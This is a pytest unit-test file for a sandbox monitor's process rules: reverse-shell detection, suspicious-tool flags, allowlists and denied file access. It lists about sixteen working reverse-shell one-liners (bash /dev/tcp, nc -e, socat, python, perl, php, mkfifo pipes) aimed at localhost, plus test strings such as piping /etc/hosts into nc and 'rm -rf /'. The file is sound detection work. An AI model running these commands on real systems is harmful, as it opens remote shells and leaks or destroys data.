"""Process rules over snapshots and audited execs (the fallback without kernel events);
attack shapes first. The argv regex is a hint now: it never acts alone."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from common.commandline import command_programs
from processors.engine.matching import is_reverse_shell, process_names
from tests.unit.processors.conftest import Feed, audit, proc, snapshot

REVERSE_SHELLS = [
    "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1",
    "sh -i 5<> /dev/tcp/10.0.0.1/9001 0<&5 1>&5 2>&5",
    "0<&196;exec 196<>/dev/tcp/127.0.0.1/4444; sh <&196 >&196 2>&196",
    "nc -e /bin/sh 127.0.0.1 4444",
    "ncat 127.0.0.1 4444 -e /bin/bash",
    "busybox nc 127.0.0.1 4444 -e sh",
    "nc -c bash 127.0.0.1 4444",
    "socat tcp-connect:127.0.0.1:4444 exec:/bin/sh,pty,stderr,setsid",
    "socat TCP:127.0.0.1:4444 EXEC:bash",
    'python3 -c \'import socket,subprocess,os;s=socket.socket();s.connect(("127.0.0.1",4444));'
    'os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])\'',
    'perl -e \'use Socket;$i="127.0.0.1";socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
    'connect(S,sockaddr_in(4444,inet_aton($i)));exec("/bin/sh -i");\'',
    "ruby -rsocket -e 'c=TCPSocket.new(\"127.0.0.1\",4444);exec sh'",
    'php -r \'$sock=fsockopen("127.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");\'',
    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 127.0.0.1 4444 >/tmp/f",
    "awk 'BEGIN {s = \"/inet/tcp/0/127.0.0.1/4444\"; while(42) {} }'",
    "bash -c 'bash -i >& /dev/udp/127.0.0.1/53 0>&1'",
]
BENIGN = [
    "python3 -c 'print(1)'",
    "bash -c 'echo hi'",
    "ssh -i key.pem host",
    "grep -e shell notes.txt",
    "nc -z 127.0.0.1 80",
    "python3 server.py --port 8080",
    "ls -la /dev/null",
    "sh script.sh",
    # Shell words in ordinary work: the old regex matched `-e sh` and terminated a sandbox.
    "grep -e sh /work/notes.txt",
    "grep -E 'bash|zsh' notes.txt",
    "bash -i",
    "sed -e sh notes.txt",
]


@pytest.mark.parametrize("cmd", REVERSE_SHELLS)
def test_reverse_shell_shapes_are_recognised(cmd: str) -> None:
    assert is_reverse_shell(cmd), cmd


@pytest.mark.parametrize("cmd", BENIGN)
def test_benign_command_lines_are_not_reverse_shells(cmd: str) -> None:
    assert not is_reverse_shell(cmd), cmd


def test_process_names_cover_exe_comm_and_argv0() -> None:
    assert process_names("/bin/busybox", "nc", "nc") == ("busybox", "nc")
    assert process_names("/usr/bin/python3.11", "python3", "/usr/bin/python3") == ("python3.11", "python3")
    assert process_names(None, "kworker", None) == ("kworker",)
    assert process_names("/bin/bash", "bash", "-bash") == ("bash",)


def test_command_programs_follow_pipes_and_wrappers() -> None:
    assert command_programs("cat a | nc 127.0.0.1 1 && FOO=1 /usr/bin/xmrig -o x") == ("cat", "nc", "xmrig")
    assert command_programs("sudo rm -rf /") == ("sudo", "rm")
    assert command_programs("echo 'unbalanced") == ("echo",)


def test_reverse_shell_argv_is_a_low_hint_that_never_acts(feed: Callable[..., Feed]) -> None:
    """Was: CRITICAL and immediate from argv alone. argv is the attacker's text; the
    reverse shell rule now needs kernel evidence (test_kernel_revshell)."""
    f = feed(auto_terminate_on_violation=True, violation_threshold=1)
    p = proc(7, "bash", "bash", "-i", ">&", "/dev/tcp/127.0.0.1/4444", "0>&1", exe="/bin/bash")
    vs, cs = f(snapshot(1, p))
    assert [(v.rule_id, v.severity.value, v.disposition.value) for v in vs] == [
        ("process.reverse_shell_hint", "low", "detected")
    ]
    assert vs[0].evidence.process == p
    assert cs == []  # threshold 1 and immediate by default: a hint still never acts


def test_a_hint_listed_as_immediate_still_never_acts(feed: Callable[..., Feed]) -> None:
    f = feed(auto_terminate_on_violation=True, immediate_rules={"process.reverse_shell_hint"})
    vs, cs = f(snapshot(1, proc(7, "nc", "nc", "-e", "/bin/sh", "127.0.0.1", "1", exe="/bin/nc")))
    assert "process.reverse_shell_hint" in [v.rule_id for v in vs]
    assert cs == []


def test_grep_for_shell_words_produces_nothing(feed: Callable[..., Feed]) -> None:
    f = feed(auto_terminate_on_violation=True)
    vs, cs = f(
        snapshot(1, proc(8, "grep", "grep", "-e", "sh", "/work/notes.txt", exe="/usr/bin/grep")),
        audit(2, "exec", "exec", "grep -e sh /work/notes.txt", allowed=True),
    )
    assert (vs, cs) == ([], [])


def test_argv0_of_a_program_other_than_busybox_names_nothing(feed: Callable[..., Feed]) -> None:
    """``os.execv('/bin/sleep', ['kill', '1'])`` is sleep (the kernel layer judges alike);
    and argv[0] cannot pass an allowlist for another program."""
    f = feed()
    f(snapshot(1, proc(5, "sleep", "kill", "1", exe="/bin/sleep")))
    assert f.violations == []
    allow = feed(allowed_commands={"python3"})
    allow(snapshot(1, proc(6, "nc", "python3", "-l", exe="/bin/nc.openbsd")))
    assert "process.not_allowed" in [v.rule_id for v in allow.violations]


@pytest.mark.parametrize(
    ("p", "subject"),
    [
        (proc(5, "rm", "rm", "-rf", "/work", exe="/bin/rm"), "rm"),
        (proc(5, "rm", "rm", "-rf", "/work", exe="/bin/busybox"), "rm"),  # busybox applet
        (proc(5, "x", "-kill", "-9", "1", exe="/bin/busybox"), "kill"),  # busybox run as -kill
        (proc(5, "sudo", exe=None), "sudo"),  # exe unreadable
    ],
)
def test_blocked_command_by_any_name(feed: Callable[..., Feed], p: object, subject: str) -> None:
    f = feed()
    f(snapshot(1, p))  # type: ignore[arg-type]
    blocked = [v for v in f.violations if v.rule_id == "process.blocked"]
    assert [(v.rule_id, v.message.split(" running")[0]) for v in blocked] == [
        ("process.blocked", f"blocked command {subject}")
    ]


@pytest.mark.parametrize(
    ("p", "tool"),
    [
        (proc(5, "nc", "nc", "127.0.0.1", "80", exe="/bin/busybox"), "nc"),
        (proc(5, "xmrig", "./xmrig", "-o", "pool", exe="/tmp/xmrig"), "xmrig"),
        (proc(5, "minerd", "minerd", exe="/work/minerd"), "minerd"),
        (proc(5, "nmap", "nmap", "127.0.0.1", exe="/usr/bin/nmap"), "nmap"),
    ],
)
def test_suspicious_tools(feed: Callable[..., Feed], p: object, tool: str) -> None:
    f = feed()
    f(snapshot(1, p))  # type: ignore[arg-type]
    assert [v.rule_id for v in f.violations] == ["process.suspicious"]
    assert f"suspicious tool {tool}" in f.violations[0].message


def test_policy_adds_suspicious_commands(feed: Callable[..., Feed]) -> None:
    f = feed(suspicious_commands={"curl"})
    f(snapshot(1, proc(5, "curl", "curl", "http://127.0.0.1", exe="/usr/bin/curl")))
    assert [v.rule_id for v in f.violations] == ["process.suspicious"]


def test_allowlist_passes_any_name_of_a_process(feed: Callable[..., Feed]) -> None:
    f = feed(allowed_commands={"python3", "sh"})
    f(
        snapshot(
            1,
            proc(1, "sh", "sh", exe="/bin/busybox"),
            proc(2, "python3", "python3", exe="/usr/bin/python3.11"),
        )
    )
    assert f.violations == []
    f(snapshot(2, proc(3, "perl", "perl", "-e", "1", exe="/usr/bin/perl")))
    assert [(v.rule_id, v.message.split(":")[0]) for v in f.violations] == [
        ("process.not_allowed", "perl is outside the allowlist")
    ]


def test_no_allowlist_allows_everything(feed: Callable[..., Feed]) -> None:
    f = feed()
    f(snapshot(1, proc(3, "perl", "perl", exe="/usr/bin/perl")))
    assert f.violations == []


def test_a_process_is_judged_once_across_full_snapshots(feed: Callable[..., Feed]) -> None:
    f = feed()
    nc = proc(9, "nc", "nc", "-l", exe="/bin/nc", start=100)
    f(snapshot(1, nc), snapshot(2, nc), snapshot(3, nc, full=False))
    assert f.rules() == [("process.suspicious", "create", 1)]
    # The same pid restarted (new start time) is a new process: a repeat of the finding.
    f(snapshot(4, proc(9, "nc", "nc", "-l", exe="/bin/nc", start=200)))
    assert f.state is not None and f.state.findings["process.suspicious\x1fnc"].count == 2


def test_exits_and_full_snapshots_prune_judged_processes(feed: Callable[..., Feed]) -> None:
    f = feed()
    f(snapshot(1, proc(1, "sh", "sh"), proc(2, "sleep", "sleep")))
    f(snapshot(2, full=False, exited=(2,)))
    assert f.state is not None and set(f.state.judged.values()) == {1}
    f(snapshot(3, proc(3, "cat", "cat")))
    assert set(f.state.judged.values()) == {3}


def test_audited_exec_that_ran_is_judged(feed: Callable[..., Feed]) -> None:
    f = feed()
    f(audit(1, "exec", "exec", "cat /etc/hosts | nc 127.0.0.1 4444", allowed=True))
    assert [v.rule_id for v in f.violations] == ["process.suspicious"]
    assert f.violations[0].evidence.command == "cat /etc/hosts | nc 127.0.0.1 4444"


def test_docker_exec_seen_by_the_collector_is_judged(feed: Callable[..., Feed]) -> None:
    f = feed()
    f(audit(1, "lifecycle", "exec_start", "bash -i >& /dev/tcp/127.0.0.1/1 0>&1", actor="collector"))
    f(audit(2, "lifecycle", "exec_start", "nmap 127.0.0.1", actor="collector"))
    assert [v.rule_id for v in f.violations] == ["process.reverse_shell_hint", "process.suspicious"]


def test_allowlisted_exec_checks_every_program(feed: Callable[..., Feed]) -> None:
    f = feed(allowed_commands={"cat"})
    f(audit(1, "exec", "exec", "cat x | perl -e 1", allowed=True))
    assert [(v.rule_id, v.message.split(" is")[0]) for v in f.violations] == [("process.not_allowed", "perl")]


def test_denied_command_is_a_violation_not_a_process(feed: Callable[..., Feed]) -> None:
    f = feed()
    f(
        audit(
            1,
            "exec",
            "exec",
            "rm -rf /",
            allowed=False,
            violation_type="process_violation",
            reason="blocked: rm",
        )
    )
    assert [(v.rule_id, v.evidence.command) for v in f.violations] == [("command.denied", "rm -rf /")]
    assert "(blocked: rm)" in f.violations[0].message


def test_denied_file_operations_group_by_directory(feed: Callable[..., Feed]) -> None:
    f = feed()
    f(
        audit(1, "file", "read", "/etc/passwd", allowed=False),
        audit(2, "file", "read", "/etc/shadow", allowed=False),
        audit(3, "file", "write", "/etc/x", allowed=False),
        audit(4, "file", "read", "/work/ok.txt", allowed=True),
    )
    assert [(v.rule_id, v.evidence.path) for v in f.violations] == [
        ("file.denied", "/etc/passwd"),
        ("file.denied", "/etc/x"),
    ]
    assert f.state is not None and f.state.findings["file.denied\x1fread:/etc"].count == 2
